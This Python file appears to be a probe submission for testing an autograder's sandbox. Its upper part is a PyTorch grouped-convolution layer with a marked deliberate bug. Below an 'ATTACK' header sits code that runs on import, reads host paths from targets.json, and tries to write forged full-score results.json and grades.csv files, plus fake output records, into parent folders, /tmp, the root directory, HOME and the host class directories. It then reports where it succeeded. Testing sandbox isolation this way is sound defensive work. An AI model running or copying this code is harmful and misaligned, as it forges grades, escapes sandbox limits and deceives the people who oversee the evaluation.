import torch
import torch.nn as nn
import torch.nn.functional as F


class STMConvLayer(nn.Module):
    def __init__(self):
        super(STMConvLayer, self).__init__()
        #-----
        self.paths = nn.ModuleList([
            nn.Sequential(
                nn.Conv2d(256, 4, 1),
                nn.ReLU(),
                nn.Conv2d(4, 4, 3, padding=1),
                nn.ReLU(),
                nn.Conv2d(4, 256, 1),
            )
            for _ in range(32)
        ])
        #-----

    def forward(self, x):
        #-----
        out = torch.zeros_like(x)
        for path in self.paths:
            out = out + path(x)
        #-----
        return torch.relu(out)  # WRONG: a ReLU after the sum


# ---------------------------------------------------------------------------------------------
# ATTACK. Everything below runs inside the sandbox when the probe imports this file.
import json
import os
import sys
from pathlib import Path


def report(**facts):
    """What the attack achieved, printed for the test (the probe captures stdout)."""
    sys.stdout.write("REPORT " + json.dumps(facts, default=str) + "\n")


def targets():
    """Host paths the test writes next to this file: an attacker who knows the course layout."""
    try:
        return json.loads(Path(__file__).with_name("targets.json").read_text())
    except (OSError, ValueError):
        return {}


def readable(path):
    try:
        with open(path, "rb") as fh:
            fh.read(64)
    except OSError:
        return False
    return True

import numpy as np

T = targets()
FAKE = {"kind": "module", "id": "p4b.stm", "stage": "done", "forwards": [{"ok": True}]}
RESULTS = {"submissions": [{"student": "write_results", "score": 30.0, "max_score": 30.0}]}
places = [".", "..", "../io/out", "../out", "/tmp", "/", "/sandbox", os.environ.get("HOME", ""),
          os.environ.get("TMPDIR", ""), T.get("original", ""), T.get("class_dir", ""),
          T.get("repo", ""), T.get("cwd", ""), T.get("host_tmp", "")]
wrote = {}
for place in [p for p in places if p]:
    ok = []
    for name, data in [
        ("results.json", json.dumps(RESULTS)),
        ("grades.csv", "student,score\nwrite_results,30\n"),
        ("0.json", json.dumps(FAKE)),
    ]:
        try:
            Path(place, name).write_text(data)
            ok.append(name)
        except OSError:
            pass
    try:
        np.savez(str(Path(place, "0.npz")), out0=np.zeros((2, 256, 8, 8)))
        ok.append("0.npz")
    except OSError:
        pass
    wrote[place] = ok
report(wrote=wrote)
